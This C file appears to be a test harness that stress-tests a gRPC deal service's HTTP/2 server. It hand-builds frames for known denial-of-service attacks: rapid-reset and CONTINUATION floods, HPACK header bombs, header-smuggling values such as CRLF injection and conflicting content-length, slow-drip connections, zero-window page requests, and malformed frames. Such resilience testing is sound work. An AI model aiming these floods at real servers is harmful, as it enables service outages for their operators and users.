#include "tests/attack/hostile_http2.h"

#include <openssl/rand.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "jiayi/v1/deal.pb-c.h"

enum {
    /** Types of frames, and their flags. */
    DATA = 0,
    HEADERS = 1,
    PRIORITY = 2,
    RESET = 3,
    SETTINGS = 4,
    PING = 6,
    GOAWAY = 7,
    WINDOW = 8,
    CONTINUATION = 9,
    UNKNOWN = 0x55,
    ACK = 1,
    END_STREAM = 1,
    END_HEADERS = 4,
    FRAME_HEAD = 9,
    FRAME_MAX = 16384,
    INITIAL_WINDOW_SIZE = 4,
    /** So much is sent to who does not hang up. */
    ENOUGH = 2 << 20,
    CHUNK = 4096,
    ROOM = CHUNK + 2 * FRAME_MAX,
    /** Streams of a connection that is held, at most. */
    STREAMS_MAX = 64,
    /** Of requests that are never complete: what is sent at once of each, and then each second. */
    HOARDS = 4,
    HOARD_BYTES = 240 << 10,
    HOARD_STEP_BYTES = 4096,
    /** A page of deals is nearly a megabyte. */
    PAGE = 1000,
    HANG_UP_MS = 2000,
    WATCH_MS = 200,
};

static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/* Frames. */

static void
put_number(uint8_t to[4], uint32_t n)
{
    to[0] = (uint8_t)(n >> 24);
    to[1] = (uint8_t)(n >> 16);
    to[2] = (uint8_t)(n >> 8);
    to[3] = (uint8_t)n;
}

static size_t
put_frame_head(uint8_t *to, uint8_t type, uint8_t flags, uint32_t stream, size_t n)
{
    to[0] = (uint8_t)(n >> 16);
    to[1] = (uint8_t)(n >> 8);
    to[2] = (uint8_t)n;
    to[3] = type;
    to[4] = flags;
    put_number(to + 5, stream);
    return FRAME_HEAD;
}

/** Writes a frame; returns how long it is. */
static size_t
put_frame(uint8_t *to, uint8_t type, uint8_t flags, uint32_t stream, const void *body, size_t n)
{
    put_frame_head(to, type, flags, stream, n);
    if (n > 0)
        memcpy(to + FRAME_HEAD, body, n);
    return FRAME_HEAD + n;
}

/** HPACK's length: the prefix of 7 bits, without Huffman's code. */
static size_t
put_length(uint8_t *to, size_t n)
{
    size_t at = 0;
    if (n < 127) {
        to[at++] = (uint8_t)n;
        return at;
    }
    to[at++] = 127;
    for (n -= 127; n > 127; n >>= 7)
        to[at++] = (uint8_t)(n & 127) | 128;
    to[at++] = (uint8_t)n;
    return at;
}

/** A field that is not to be remembered. */
static size_t
put_field(uint8_t *to, const char *name, const char *value, size_t n_value)
{
    size_t n = strlen(name), at = 0;
    to[at++] = 0;
    at += put_length(to + at, n);
    memcpy(to + at, name, n);
    at += n;
    at += put_length(to + at, n_value);
    memcpy(to + at, value, n_value);
    return at + n_value;
}

/** The head of a call. */
static size_t
put_call(uint8_t *to, uint32_t stream, uint8_t flags, const char *method, const char *token)
{
    uint8_t *block = to + FRAME_HEAD;
    char text[160];
    size_t n = 0;
    block[n++] = 0x83; /* POST */
    block[n++] = 0x87; /* https */
    n += put_field(block + n, ":path", method, strlen(method));
    n += put_field(block + n, ":authority", "localhost", 9);
    n += put_field(block + n, "content-type", "application/grpc", 16);
    if (token) {
        snprintf(text, sizeof text, "Bearer %s", token);
        n += put_field(block + n, "authorization", text, strlen(text));
    }
    put_frame_head(to, HEADERS, flags | END_HEADERS, stream, n);
    return FRAME_HEAD + n;
}

/** The same of a method that is not there, as short as may be. */
static size_t
put_request(uint8_t *to, uint32_t stream)
{
    static const uint8_t block[] = "\x83\x87\x84\x01\x01x\x0f\x10\x10"
                                   "application/grpc";
    return put_frame(to, HEADERS, END_HEADERS, stream, block, sizeof block - 1);
}

/** What a client says first: with windows that it opens for answers so far. */
static size_t
put_greeting(uint8_t *to, uint32_t window)
{
    uint8_t setting[6] = {0, INITIAL_WINDOW_SIZE};
    size_t n = sizeof preface - 1;
    memcpy(to, preface, n);
    put_number(setting + 2, window);
    n += put_frame(to + n, SETTINGS, 0, 0, setting, sizeof setting);
    return n + put_frame(to + n, SETTINGS, ACK, 0, NULL, 0);
}

SSL_CTX *
hostile_tls_http2(void)
{
    static SSL_CTX *_Atomic kept;
    if (!atomic_load(&kept))
        atomic_store(&kept, link_tls_http2(NULL));
    return atomic_load(&kept);
}

/** TLS, and nothing said yet. */
static int
connect_to(struct hostile_worker *w, struct link *l, unsigned n)
{
    struct link_target t = w->target;
    t.tls = hostile_tls_http2();
    return link_connect(l, &t, hostile_source(w, n)) < 0 ? -1 : link_secure(l, &t);
}

/* Floods. */

/** The @i-th piece of one; each connection may have another @kind. */
typedef size_t put_fn(uint8_t *to, uint32_t i, unsigned kind);

/** Sends what @put makes, until the server hangs up. */
static void
flood(struct hostile_worker *w, put_fn *put)
{
    struct link l = {.fd = -1};
    uint8_t bytes[ROOM];
    unsigned kind = hostile_serial(w);
    if (connect_to(w, &l, kind) < 0) {
        hostile_count(&w->score->failed);
        return;
    }
    size_t n = sizeof preface - 1, sent = 0;
    memcpy(bytes, preface, n);
    n += put_frame(bytes + n, SETTINGS, 0, 0, NULL, 0);
    bool is_open = true;
    for (uint32_t i = 0; is_open && sent < ENOUGH; sent += n, n = 0) {
        while (n < CHUNK)
            n += put(bytes + n, i++, kind);
        is_open = link_write(&l, bytes, n) == 0;
    }
    /* What was sent quickly is read a little later. */
    is_open = is_open && !link_await_end(&l, HANG_UP_MS);
    hostile_count(is_open ? &w->score->failed : &w->score->cut);
    link_close(&l);
}

/** Streams that are begun and reset at once. */
static size_t
put_reset_stream(uint8_t *to, uint32_t i, unsigned kind)
{
    static const uint8_t cancelled[] = {0, 0, 0, 8};
    (void)kind;
    size_t n = put_request(to, 2 * i + 1);
    return n + put_frame(to + n, RESET, 0, 2 * i + 1, cancelled, sizeof cancelled);
}

void
hostile_reset_streams(struct hostile_worker *w)
{
    flood(w, put_reset_stream);
}

/** Streams that the server has to reset: a window that overflows, a frame of no length. */
static size_t
put_made_reset(uint8_t *to, uint32_t i, unsigned kind)
{
    static const uint8_t all[] = {0x7f, 0xff, 0xff, 0xff}, itself[] = {0, 0, 0, 0, 0};
    uint8_t self[5];
    uint32_t stream = 2 * i + 1;
    size_t n = put_request(to, stream);
    memcpy(self, itself, sizeof self);
    put_number(self, stream); /* it depends on itself */
    return n + (kind % 2 ? put_frame(to + n, WINDOW, 0, stream, all, sizeof all)
                         : put_frame(to + n, PRIORITY, 0, stream, self, sizeof self));
}

void
hostile_have_reset(struct hostile_worker *w)
{
    flood(w, put_made_reset);
}

/** Frames that cost their sender little: one stream, and nothing on it but this. */
static size_t
put_for_nothing(uint8_t *to, uint32_t i, unsigned kind)
{
    enum { KINDS = 7 };
    static const uint8_t eight[8] = {1}, one[4] = {0, 0, 0, 1}, priority[5] = {0, 0, 0, 0, 9};
    if (i == 0)
        return put_request(to, 1);
    /* Each of them alone, or all in turn. */
    switch (kind % KINDS ? kind % KINDS : 1 + i % (KINDS - 1)) {
    case 1: return put_frame(to, PING, 0, 0, eight, sizeof eight);
    case 2: return put_frame(to, SETTINGS, 0, 0, NULL, 0);
    case 3: return put_frame(to, DATA, 0, 1, NULL, 0);
    case 4: return put_frame(to, WINDOW, 0, 0, one, sizeof one);
    case 5: return put_frame(to, PRIORITY, 0, 2 * i + 1, priority, sizeof priority);
    default: return put_frame(to, UNKNOWN, 0, 0, NULL, 0);
    }
}

void
hostile_send_for_nothing(struct hostile_worker *w)
{
    flood(w, put_for_nothing);
}

/** A head that never ends: in frames with something in them, or with nothing. */
static size_t
put_continuation(uint8_t *to, uint32_t i, unsigned kind)
{
    uint8_t block[CHUNK + 16];
    char text[CHUNK - 16];
    if (i == 0) {
        size_t n = put_request(to, 1);
        to[4] = 0; /* no END_HEADERS */
        return n;
    }
    memset(text, 'y', sizeof text);
    size_t n = kind % 2 ? put_field(block, "x", text, sizeof text) : 0;
    return put_frame(to, CONTINUATION, 0, 1, block, n);
}

void
hostile_continue(struct hostile_worker *w)
{
    flood(w, put_continuation);
}

/** A field that the server is to remember, and then heads that name it thousands of times. */
static size_t
put_bomb(uint8_t *to, uint32_t i, unsigned kind)
{
    enum { VALUE_BYTES = 3900, TIMES = 8000, FIRST_OF_OURS = 0x80 | 62 };
    uint8_t *block = to + FRAME_HEAD;
    size_t n = 0;
    (void)kind;
    if (i == 0) {
        block[n++] = 0x40;
        block[n++] = 1;
        block[n++] = 'x';
        n += put_length(block + n, VALUE_BYTES);
        memset(block + n, 'y', VALUE_BYTES);
        n += VALUE_BYTES;
    } else {
        memset(block, FIRST_OF_OURS, TIMES);
        n = TIMES;
    }
    put_frame_head(to, HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, n);
    return FRAME_HEAD + n;
}

void
hostile_bomb_heads(struct hostile_worker *w)
{
    flood(w, put_bomb);
}

/** Heads that are nearly as long as may be. */
static size_t
put_long_head(uint8_t *to, uint32_t i, unsigned kind)
{
    char text[15 << 10];
    uint8_t *block = to + FRAME_HEAD;
    (void)kind;
    memset(text, 'y', sizeof text);
    size_t n = put_request(to, 2 * i + 1) - FRAME_HEAD;
    n += put_field(block + n, "x", text, sizeof text);
    put_frame_head(to, HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, n);
    return FRAME_HEAD + n;
}

void
hostile_fill_heads(struct hostile_worker *w)
{
    flood(w, put_long_head);
}

/** Heads that HTTP/2 forbids, or that mean two things. */
static size_t
put_odd_head(uint8_t *to, uint32_t i, unsigned kind)
{
    static const struct {
        const char *name, *value;
    } odd[] = {
        {"X-Upper", "1"},
        {"transfer-encoding", "chunked"},
        {"connection", "close"},
        {"x", "a\r\ny: b"},
        {"content-length", "5"},
        {"content-length", "18446744073709551616"},
        {":path", "/again"},
        {":unknown", "1"},
        {"te", "gzip"},
        {"host", "other.example"},
        {"", "1"},
        {"x y", "1"},
    };
    unsigned k = kind % (sizeof odd / sizeof *odd);
    uint8_t *block = to + FRAME_HEAD;
    size_t n = put_request(to, 2 * i + 1) - FRAME_HEAD;
    n += put_field(block + n, odd[k].name, odd[k].value, strlen(odd[k].value));
    put_frame_head(to, HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, n);
    return FRAME_HEAD + n;
}

void
hostile_send_odd_heads(struct hostile_worker *w)
{
    flood(w, put_odd_head);
}

/** Streams that are begun and not ended: more than are allowed, told so or not yet. */
static size_t
put_stream(uint8_t *to, uint32_t i, unsigned kind)
{
    size_t n = i == 0 && kind % 2 ? put_frame(to, SETTINGS, ACK, 0, NULL, 0) : 0;
    return n + put_call(to + n, 2 * i + 1, 0, "/jiayi.v1.DealService/GetDeal", NULL);
}

void
hostile_begin_streams(struct hostile_worker *w)
{
    flood(w, put_stream);
}

/* Connections that end. */

/** Frames that are none, or on streams where they may not be. */
static size_t
put_garbage(uint8_t *to, unsigned kind)
{
    enum { KINDS = 10, MUCH = (1 << 24) - 1 };
    static const uint8_t some[64] = {1};
    size_t n = 0;
    if (kind % KINDS > 1)
        n = put_greeting(to, FRAME_MAX);
    switch (kind % KINDS) {
    case 0:
    case 1: RAND_bytes(to, sizeof some); return sizeof some;
    case 2: return n + put_frame_head(to + n, DATA, 0, 1, MUCH);
    case 3: return n + put_frame_head(to + n, HEADERS, END_HEADERS, 1, FRAME_MAX);
    case 4: return n + put_request(to + n, 2);
    case 5: return n + put_request(to + n, 0);
    case 6: return n + put_frame(to + n, DATA, 0, 7, some, sizeof some);
    case 7: return n + put_frame(to + n, SETTINGS, 0, 0, some, 5);
    case 8: return n + put_frame(to + n, HEADERS, END_HEADERS, 1, some, sizeof some);
    default: return n + put_frame(to + n, CONTINUATION, 0, 1, some, sizeof some);
    }
}

/** Hangs up in one of four ways. */
static void
leave(struct hostile_worker *w, struct link *l, unsigned way)
{
    switch (way % 4) {
    case 0: link_reset(l); break;
    case 1: break;
    case 2: link_await_end(l, WATCH_MS); break;
    default:
        shutdown(l->fd, SHUT_WR); /* half open */
        if (link_await_end(l, HANG_UP_MS))
            hostile_count(&w->score->cut);
    }
    link_close(l);
    hostile_count(&w->score->done);
}

void
hostile_send_garbage_frames(struct hostile_worker *w)
{
    struct link l = {.fd = -1};
    uint8_t bytes[512];
    unsigned n = hostile_serial(w);
    if (connect_to(w, &l, n) < 0) {
        hostile_count(&w->score->failed);
        return;
    }
    link_write(&l, bytes, put_garbage(bytes, n));
    leave(w, &l, n / 10);
}

/** A whole call of a deal. */
static size_t
put_get_deal(struct hostile_worker *w, uint8_t *to, uint32_t stream)
{
    Jiayi__V1__GetDealRequest r = JIAYI__V1__GET_DEAL_REQUEST__INIT;
    uint8_t body[32] = {0};
    size_t n = put_call(to, stream, 0, "/jiayi.v1.DealService/GetDeal",
                        hostile_token(w, hostile_serial(w)));
    r.has_deal_id = 1;
    r.deal_id = 1;
    size_t packed = jiayi__v1__get_deal_request__pack(&r, body + 5);
    body[4] = (uint8_t)packed;
    return n + put_frame(to + n, DATA, END_STREAM, stream, body, 5 + packed);
}

/** Calls, and then a farewell before, between or after them, while they are answered. */
void
hostile_go_away(struct hostile_worker *w)
{
    enum { CALLS = 10 };
    static const uint8_t last[8];
    struct link l = {.fd = -1};
    uint8_t bytes[8192];
    unsigned kind = hostile_serial(w), farewell = kind % (CALLS + 1);
    if (connect_to(w, &l, kind) < 0) {
        hostile_count(&w->score->failed);
        return;
    }
    size_t n = put_greeting(bytes, FRAME_MAX);
    for (unsigned i = 0; i <= CALLS; i++)
        n += i == farewell ? put_frame(bytes + n, GOAWAY, 0, 0, last, sizeof last)
                           : put_get_deal(w, bytes + n, 2 * i + 1);
    link_write(&l, bytes, n);
    leave(w, &l, kind / CALLS);
}

/* Held connections. */

int
hostile_open_http2(struct hostile_worker *w, struct link *l, int peer)
{
    return connect_to(w, l, (unsigned)peer);
}

int
hostile_drip_preface(struct hostile_worker *w, struct link *l, int peer)
{
    (void)w, (void)peer;
    return link_write(l, preface + l->last_id++ % (sizeof preface - 1), 1);
}

/** Begins HOARDS calls whose messages are to have @bytes. */
static size_t
put_begun(struct hostile_worker *w, uint8_t *to, int peer, uint32_t bytes)
{
    size_t n = 0;
    for (uint32_t i = 0; i < HOARDS; i++) {
        uint8_t prefix[5] = {0};
        put_number(prefix + 1, bytes);
        n += put_call(to + n, 2 * i + 1, 0, "/jiayi.v1.DealService/CreateDeal",
                      hostile_token(w, (unsigned)peer));
        n += put_frame(to + n, DATA, 0, 2 * i + 1, prefix, sizeof prefix);
    }
    return n;
}

/** Requests that come to nothing: their heads, and how long they are going to be. */
int
hostile_open_bodies(struct hostile_worker *w, struct link *l, int peer)
{
    uint8_t bytes[4096];
    if (connect_to(w, l, (unsigned)peer) < 0)
        return -1;
    size_t n = put_greeting(bytes, FRAME_MAX);
    n += put_begun(w, bytes + n, peer, HOARD_BYTES * 2);
    return link_write(l, bytes, n);
}

/** Throws away what has come, unread. Returns -1 when the server has hung up. */
static int
ignore(struct link *l)
{
    char some[16384];
    ssize_t n;
    while ((n = recv(l->fd, some, sizeof some, MSG_DONTWAIT)) > 0)
        continue;
    return n == 0 ? -1 : 0;
}

static int
send_bodies(struct link *l, size_t n)
{
    static const uint8_t nothing[FRAME_MAX];
    uint8_t frame[FRAME_HEAD + FRAME_MAX];
    for (uint32_t i = 0; i < HOARDS; i++)
        for (size_t at = 0, part; at < n; at += part) {
            part = n - at < FRAME_MAX ? n - at : FRAME_MAX;
            if (link_write(l, frame, put_frame(frame, DATA, 0, 2 * i + 1, nothing, part)) < 0)
                return -1;
        }
    return 0;
}

int
hostile_drip_bodies(struct hostile_worker *w, struct link *l, int peer)
{
    (void)w, (void)peer;
    return ignore(l) < 0 ? -1 : send_bodies(l, 1);
}

int
hostile_hoard_bodies(struct hostile_worker *w, struct link *l, int peer)
{
    (void)w, (void)peer;
    if (ignore(l) < 0)
        return -1;
    return send_bodies(l, l->last_id++ == 0 ? HOARD_BYTES : HOARD_STEP_BYTES);
}

/** A whole call of a page of deals. */
static size_t
put_page(struct hostile_worker *w, uint8_t *to, uint32_t stream)
{
    enum { ADMIN = 1 };
    Jiayi__V1__ListDealsRequest r = JIAYI__V1__LIST_DEALS_REQUEST__INIT;
    uint8_t body[32] = {0};
    link_token(w->token, ADMIN);
    size_t n = put_call(to, stream, 0, "/jiayi.v1.DealService/ListDeals", w->token);
    r.has_page_size = 1;
    r.page_size = PAGE;
    size_t packed = jiayi__v1__list_deals_request__pack(&r, body + 5);
    body[4] = (uint8_t)packed;
    return n + put_frame(to + n, DATA, END_STREAM, stream, body, 5 + packed);
}

static int
ask_pages(struct hostile_worker *w, struct link *l, int streams)
{
    uint8_t bytes[512];
    for (int i = 0; i < streams; i++, l->last_id++)
        if (link_write(l, bytes, put_page(w, bytes, 2 * l->last_id + 1)) < 0)
            return -1;
    return 0;
}

/** Streams of a connection, two at least: fewer where the server allows few, and the scale is small. */
static uint32_t
streams_of(const struct hostile_worker *w)
{
    double scale = w->options->scale < 1 ? w->options->scale : 1;
    return (uint32_t)hostile_scaled(w->attack->depth / 2, scale) * 2;
}

static int
open_and_ask(struct hostile_worker *w, struct link *l, int peer, uint32_t window)
{
    uint8_t bytes[128];
    if (connect_to(w, l, (unsigned)peer) < 0 || link_write(l, bytes, put_greeting(bytes, window)))
        return -1;
    return ask_pages(w, l, (int)streams_of(w));
}

/** Pages for whose answers no window is opened. */
int
hostile_open_closed(struct hostile_worker *w, struct link *l, int peer)
{
    return open_and_ask(w, l, peer, 0);
}

/** Pages that TCP is to carry, from where they are not read. */
int
hostile_open_unread(struct hostile_worker *w, struct link *l, int peer)
{
    return open_and_ask(w, l, peer, INT32_MAX);
}

/** One more of the same, for what was reset. */
int
hostile_ask_unread(struct hostile_worker *w, struct link *l, int peer)
{
    (void)peer;
    return ignore(l) < 0 ? -1 : ask_pages(w, l, 1);
}

/** A byte more for each answer. */
int
hostile_open_windows(struct hostile_worker *w, struct link *l, int peer)
{
    static const uint8_t one[4] = {0, 0, 0, 1};
    uint8_t bytes[STREAMS_MAX * (FRAME_HEAD + 4)];
    size_t n = 0;
    (void)peer;
    for (uint32_t i = 0; i < streams_of(w); i++)
        n += put_frame(bytes + n, WINDOW, 0, 2 * i + 1, one, sizeof one);
    return ignore(l) < 0 ? -1 : link_write(l, bytes, n);
}

/** Dialogs with reflection, and watches of health, for whose answers no window is opened. */
int
hostile_open_dialogs(struct hostile_worker *w, struct link *l, int peer)
{
    static const char *const methods[] = {
        "/grpc.health.v1.Health/Watch",
        "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"};
    static const uint8_t empty[5];
    uint8_t bytes[STREAMS_MAX * 160 + 128];
    if (connect_to(w, l, (unsigned)peer) < 0)
        return -1;
    size_t n = put_greeting(bytes, 0);
    for (uint32_t i = 0; i < streams_of(w); i++) {
        n += put_call(bytes + n, 2 * i + 1, 0, methods[i % 2], NULL);
        if (i % 2 == 0)
            n += put_frame(bytes + n, DATA, END_STREAM, 2 * i + 1, empty, sizeof empty);
    }
    return link_write(l, bytes, n);
}

/** Asks each of them for the largest file that there is. */
int
hostile_ask_dialogs(struct hostile_worker *w, struct link *l, int peer)
{
    static const char name[] = "jiayi.v1.DealService";
    uint8_t message[5 + 2 + sizeof name - 1] = {
        0, 0, 0, 0, 2 + sizeof name - 1, 0x22, sizeof name - 1};
    uint8_t bytes[STREAMS_MAX * (FRAME_HEAD + sizeof message)];
    size_t n = 0;
    (void)peer;
    memcpy(message + 7, name, sizeof name - 1);
    for (uint32_t i = 1; i < streams_of(w); i += 2)
        n += put_frame(bytes + n, DATA, 0, 2 * i + 1, message, sizeof message);
    return ignore(l) < 0 ? -1 : link_write(l, bytes, n);
}
